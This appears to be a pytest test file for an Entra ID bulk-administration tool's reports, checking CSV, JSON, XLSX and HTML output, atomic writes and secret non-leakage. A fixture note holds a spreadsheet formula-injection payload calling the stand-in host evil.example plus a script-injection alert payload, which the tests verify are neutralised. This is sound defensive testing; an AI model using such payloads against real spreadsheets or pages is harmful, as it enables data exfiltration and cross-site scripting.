"""Reports from the journal alone: exact CSV, JSON, follow-up files, XLSX and HTML; no secret
in any of them; formula injection neutralised; atomic writes; rebuilt identically."""

from __future__ import annotations

import datetime as dt
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from runner import report, validate
from runner.errors import ExitCode
from runner.journal import Journal
from runner.runstate import Outcome, StepStatus
from tests.journal_support import intent, make_run_dir, new_journal, spec
from tests.report_support import EVIL_NOTE, cli, make_run, report_json

NOW = dt.datetime(2026, 3, 1, 10, 0, tzinfo=dt.UTC)
RUN = "runs/20260301T090000Z-breach-2026"


@pytest.fixture
def run_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The synthetic run, written with every report (xlsx included), named relatively."""
    monkeypatch.chdir(tmp_path)
    make_run(tmp_path)
    folder = Path(RUN)
    with Journal.open(folder) as journal:
        report.write_all(folder, journal, formats=report.FORMATS, now=NOW)
    return folder


def test_csv_has_a_bom_crlf_every_field_and_neutralised_cells(run_dir: Path) -> None:
    """report.csv: UTF-8 BOM, CRLF, the columns of section 8 plus ticket and note, per item."""
    raw = (run_dir / "report.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfitem,upn,object_id,")
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0] == (
        "item,upn,object_id,display_name,action,status,verified,reason,planned,http_status,"
        "error_code,error_message,request_id,attempts,started,finished,verified_at,secret_ref,"
        "secret_state,confirmed_by,ticket,target_ticket,note"
    )
    assert len(lines) == 14 and lines[-1] == ""
    assert lines[4] == (
        "4,alex.wilber@contoso.com,00000000-0000-0000-0000-000000000002,Alex Wilber,"
        "reset_password,failed,,,will reset password,403,Authorization_RequestDenied,"
        "Insufficient privileges to complete the operation.,req-4,1,"
        "2026-03-01T09:00:00.008000Z,2026-03-01T09:00:00.009000Z,,4:1,never set,,INC-4821,,"
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")</script><script>alert(1)'
        '</script>"'
    )
    assert lines[1].split(",")[5:7] == ["verified", "true"]
    assert lines[10].endswith(",INC-4821,HR-7,left in March")


def test_no_report_holds_a_secret(run_dir: Path) -> None:
    """secrets.csv is named, its rows referenced by secret_ref, its values copied nowhere."""
    for path in run_dir.iterdir():
        if path.name not in {"secrets.csv", "journal.sqlite"}:
            assert b"canary-secret-never-copied" not in path.read_bytes(), path
    document = report_json(run_dir)
    assert document["secrets_file"] == f"{RUN}/secrets.csv"
    assert [i["secret_ref"] for i in document["items"] if i["secret_ref"]] == ["1:1", "4:1", "7:1"]


def test_json_has_header_outcome_counts_timeline_and_every_row(run_dir: Path) -> None:
    """report.json: the plan header with approvals, the outcome, counts, figures, 12 rows."""
    document = report_json(run_dir)
    assert document["format"] == "entra-bulk-report/1"
    head = document["header"]
    assert (head["plan"], head["ticket"], head["emulated"], head["run_folder"]) == (
        "breach-2026",
        "INC-4821",
        True,
        "20260301T090000Z-breach-2026",
    )
    assert head["approvals"][0]["approver"] == "bob"
    assert document["outcome"] == {
        "exit_code": 1,
        "state": "finished with failures",
        "meaning": "1 unknown, 1 failed (the report says which)",
        "next": [
            f"entra-bulk apply --resume {RUN}  (reads the unknown outcomes back; never re-sends "
            "blindly)",
            f"entra-bulk plan {RUN}/failed.yaml  (re-plan them)",
            f"entra-bulk confirm {RUN} ITEM... (see manual-steps.md)",
        ],
    }
    counts = {k: v for k, v in document["counts"].items() if v}
    assert counts == {
        "verified": 3,
        "noop": 1,
        "manual": 4,
        "failed": 1,
        "unknown": 1,
        "drifted": 2,
    }
    assert document["counts_by_action"]["reset_password"] == {
        "verified": 1,
        "failed": 1,
        "unknown": 1,
        "drifted": 1,
    }
    timeline = document["timeline"]
    assert (
        timeline["throttled_429"],
        timeline["paused_s"],
        timeline["peak_throttle_percentage"],
    ) == (
        2,
        2.0,
        0.93,
    )
    assert [item["item"] for item in document["items"]] == list(range(1, 13))
    assert document["items"][3]["note"] == EVIL_NOTE  # JSON keeps the text as it is


def test_failed_yaml_replans_the_failures_in_one_command(run_dir: Path) -> None:
    """failed.csv + failed.yaml: failed and drifted targets, the plan's settings; it validates."""
    assert (run_dir / "failed.csv").read_bytes().decode("utf-8-sig").split("\r\n") == [
        "user,actions,ticket,note",
        '00000000-0000-0000-0000-000000000002,reset_password,,"alex.wilber@contoso.com: '
        "reset_password failed (403 Authorization_RequestDenied): Insufficient privileges to "
        'complete the operation. | note: =HYPERLINK(""http://evil.example/?x=""&A1,""click"")'
        '</script><script>alert(1)</script>"',
        "00000000-0000-0000-0000-000000000004,reset_password;revoke_sessions,HR-7,"
        "isaiah.langer@contoso.com: reset_password drifted: changed since planning: UPN; "
        "revoke_sessions drifted: changed since planning: UPN | note: left in March",
        "",
    ]
    result = validate.load(str(run_dir / "failed.yaml"))
    assert result.ok and result.plan is not None, list(validate.render_text([result]))
    plan = result.plan
    assert (plan.name, plan.ticket) == ("breach-2026-retry", "INC-4821")
    assert [(t.value, t.actions) for t in plan.targets] == [
        ("00000000-0000-0000-0000-000000000002", ("reset_password",)),
        ("00000000-0000-0000-0000-000000000004", ("reset_password", "revoke_sessions")),
    ]
    assert plan.safety.max_targets == 50 and plan.safety.canary == 1
    assert plan.options["reset_password"]["length"] == 20
    text = (run_dir / "failed.yaml").read_text(encoding="utf-8")
    assert "# Not here: 1 item whose outcome is unknown (unknown.csv)." in text
    assert cli("validate", str(run_dir / "failed.yaml"))[0] == ExitCode.SUCCESS


def test_unknown_outcomes_are_listed_apart(run_dir: Path) -> None:
    """unknown.csv holds the one unknown item, to reconcile by resuming, not to retry."""
    assert (run_dir / "unknown.csv").read_bytes().decode("utf-8-sig").split("\r\n") == [
        "item,upn,object_id,display_name,action,status,reason,http_status,error_code,"
        "error_message,request_id,attempts,started,finished",
        "7,megan.bowen@contoso.com,00000000-0000-0000-0000-000000000003,Megan Bowen,"
        "reset_password,unknown,504 Gateway Timeout: the outcome is unknown,,,,,1,"
        "2026-03-01T09:00:00.012000Z,2026-03-01T09:00:00.013000Z",
        "",
    ]


def test_manual_steps_list_each_user_with_a_box_and_the_confirm_command(run_dir: Path) -> None:
    """manual-steps.md: why, the exact portal steps, one line to tick per user, the command."""
    assert (run_dir / "manual-steps.md").read_text(encoding="utf-8") == (
        "# Manual steps: breach-2026\n"
        "\n"
        f"ticket INC-4821 · run `{RUN}` · tenant 11111111-2222-3333-4444-555555555555 "
        "(emulated tenant) · plan `sha256:" + "ab" * 32 + "`\n"
        "\n"
        "Graph has no API for the actions below, so entra-bulk did not do them and does not\n"
        "count them as done. Do each one in the Entra admin center, tick its line here, and\n"
        "record it in the run's journal (the reports are rebuilt when you do):\n"
        "\n"
        "```sh\n"
        f'entra-bulk confirm {RUN} ITEM... --by "YOUR NAME"\n'
        "```\n"
        "\n"
        "## delete_app_passwords: 4 users (0 confirmed)\n"
        "\n"
        "Why manual: Graph has no API to delete app passwords.\n"
        "\n"
        "For each user:\n"
        "\n"
        "1. Entra admin center → Users → Per-user MFA (legacy multifactor authentication page)\n"
        "2. select the user → Manage user settings\n"
        "3. tick 'Delete all existing app passwords generated by the selected users' → Save\n"
        "\n"
        "The per-user MFA page takes several users at once. Microsoft's documentation names "
        "Authentication Administrator for this page; administrators report that only a Global "
        "Administrator can delete app passwords (entra-docs issue #466).\n"
        "\n"
        "- [ ] item 3: adele.vance@contoso.com (Adele Vance), object id "
        "00000000-0000-0000-0000-000000000001\n"
        "- [ ] item 6: alex.wilber@contoso.com (Alex Wilber), object id "
        "00000000-0000-0000-0000-000000000002\n"
        "- [ ] item 9: megan.bowen@contoso.com (Megan Bowen), object id "
        "00000000-0000-0000-0000-000000000003\n"
        "- [ ] item 12: isaiah.langer@contoso.com (Isaiah Langer), object id "
        "00000000-0000-0000-0000-000000000004\n"
        "\n"
        "Once done, record them:\n"
        "\n"
        "```sh\n"
        f'entra-bulk confirm {RUN} 3 6 9 12 --by "YOUR NAME"\n'
        "```\n"
    )


def test_xlsx_neutralises_text_and_keeps_numbers(run_dir: Path) -> None:
    """report.xlsx: a Summary and an Items sheet; formulas never run, numbers stay numbers."""
    book = openpyxl.load_workbook(run_dir / "report.xlsx")
    assert book.sheetnames == ["Summary", "Items"]
    items = book["Items"]
    header = [cell.value for cell in items[1]]
    row = {name: cell for name, cell in zip(header, items[5], strict=True)}
    assert row["note"].value == "'" + EVIL_NOTE and row["note"].data_type == "s"
    assert (row["item"].value, row["http_status"].value, row["attempts"].value) == (4, 403, 1)
    assert items.freeze_panes == "A2" and items.auto_filter.ref == "A1:W13"
    summary = {r[0].value: r[1].value for r in book["Summary"].iter_rows(min_row=2)}
    assert summary["outcome"] == (
        "finished with failures (exit 1): 1 unknown, 1 failed (the report says which)"
    )
    assert summary["429s met"] == 2


def test_html_is_self_contained_escaped_and_complete(run_dir: Path) -> None:
    """report.html: no fetch allowed or made, text escaped; header, charts, attention, table."""
    page = (run_dir / "report.html").read_text(encoding="utf-8")
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page)
    assert "url(" not in page and "@import" not in page
    assert "<script>alert(1)" not in page
    assert "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)" in page
    for needle in (
        "<h1>entra-bulk report: breach-2026",
        "EMULATED TENANT",
        "INC-4821",
        "bob at 2026-03-01T08:30:00Z",
        'data-chart="outcomes"',
        'data-chart="timeline"',
        '<table id="items">',
        'id="filter-text"',
        'data-column="upn"',
        "entra-bulk plan runs/20260301T090000Z-breach-2026/failed.yaml",
        "Built from the run's journal",
    ):
        assert needle in page, needle
    assert page.count('<rect class="seg"') == 8  # 4 statuses of resets, 3 of revokes, 1 manual
    assert page.count('<circle class="throttle"') == 1


def test_follow_up_files_with_nothing_to_list_are_removed(tmp_path: Path) -> None:
    """A run where all went well has failed.csv with its header alone, and no stale
    failed.yaml, unknown.csv or manual-steps.md."""
    folder = make_run_dir(tmp_path)
    with new_journal(folder, [spec(0)]) as journal:
        journal.record_intent(intent(1))
        journal.record_outcome(
            Outcome(item_id=1, step_key="send", status=StepStatus.SUCCEEDED, finish_item=True)
        )
        for name in ("failed.csv", "failed.yaml", "unknown.csv", "manual-steps.md"):
            (folder / name).write_text("stale")
        written = report.write_all(folder, journal)
    assert [p.name for p in written] == ["failed.csv", "report.csv", "report.json", "report.html"]
    assert (folder / "failed.csv").read_bytes() == b"\xef\xbb\xbfuser,actions,ticket,note\r\n"
    assert sorted(p.name for p in folder.iterdir()) == [
        "failed.csv",
        "journal.sqlite",
        "report.csv",
        "report.html",
        "report.json",
    ]


def test_a_crash_mid_write_leaves_the_old_report_whole(run_dir: Path) -> None:
    """ENTRA_BULK_CRASH_AT=mid_report_write kills the writer; report.csv is the old one."""
    before = (run_dir / "report.csv").read_bytes()
    (run_dir / "report.csv").write_bytes(before + b"old marker\r\n")
    script = (
        "from pathlib import Path\n"
        "from runner import report\n"
        "from runner.journal import Journal\n"
        f"folder = Path({str(run_dir)!r})\n"
        "with Journal.open(folder) as journal:\n"
        "    report.write_all(folder, journal, formats=['csv'])\n"
    )
    # The fifth file written is report.csv, after failed.csv, failed.yaml, unknown.csv and
    # manual-steps.md.
    env = {**os.environ, "ENTRA_BULK_CRASH_AT": "mid_report_write:5"}
    done = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    assert (run_dir / "report.csv").read_bytes() == before + b"old marker\r\n"
    assert (run_dir / ".report.csv.tmp").read_bytes().startswith(b"\xef\xbb\xbfitem,")
    assert cli("report", str(run_dir), "--format", "csv")[0] == ExitCode.SUCCESS
    assert (run_dir / "report.csv").read_bytes() == before
